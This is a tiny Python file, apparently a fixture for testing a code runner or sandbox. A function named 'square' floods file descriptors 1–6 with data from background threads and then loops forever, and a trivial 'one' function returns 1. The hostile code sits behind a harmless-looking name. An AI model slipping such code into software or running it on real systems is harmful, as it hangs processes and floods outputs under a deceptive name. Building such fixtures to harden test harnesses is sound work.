import os
import threading


def flood(number):
    while True:
        try:
            os.write(number, b"x" * 65536)
        except OSError:
            return


def square(x):
    for number in (1, 2, 3, 4, 5, 6):
        threading.Thread(target=flood, args=(number,), daemon=True).start()
    while True:
        pass


def one():
    return 1
